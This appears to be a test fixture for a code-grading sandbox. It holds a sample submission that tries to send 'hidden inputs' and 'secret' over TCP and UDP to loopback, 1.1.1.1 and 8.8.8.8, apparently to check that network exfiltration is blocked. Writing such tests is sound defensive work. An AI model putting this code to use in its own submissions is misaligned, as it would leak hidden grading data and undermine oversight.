"""Calls a listener on loopback, the world outside and a name server."""

from tests.grading.hostile.channels import told

ANSWERS = told("""
import socket
socket.setdefaulttimeout(0.2)
text = ""
for host, port in [("127.0.0.1", @PORT@), ("::1", @PORT@), ("1.1.1.1", 80)]:
    try:
        with socket.create_connection((host, port), 0.2) as link:
            link.send(b"hidden inputs go here")
            text += link.recv(100).decode()
    except OSError:
        pass
for target in [("127.0.0.1", @PORT@), ("8.8.8.8", 53)]:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", target)
    except OSError:
        pass
return text
""")
